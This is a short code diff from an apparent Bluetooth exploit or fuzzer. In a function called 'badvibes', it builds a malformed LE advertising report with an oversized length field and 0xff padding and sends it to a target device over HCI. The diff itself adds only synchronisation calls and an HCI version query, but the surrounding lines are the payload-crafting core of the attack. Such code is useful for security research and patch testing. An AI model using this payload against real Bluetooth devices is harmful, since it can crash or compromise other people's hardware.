@@ -33,6 +33,9 @@ def badvibes():
                         struct.pack("<BBBbbHB", 1, 0, 0xff, 127, -60, 0, 0) + bytes(6) + \
                         bytes([length]) + (b"\x02\x01\x06" + bytes([length - 4 & 0xff]) + b"\xff" * 255)[:min(length, 229)]
                     target.send(le_event(0x0d, b"\x01" + report))
+                mgmt.take()
+            hcilib.command(target.index, 0x1001)
+            mgmt.take()
             if started == 0:
                 mgmt.send(0x0024, target.index, b"\x06")
 
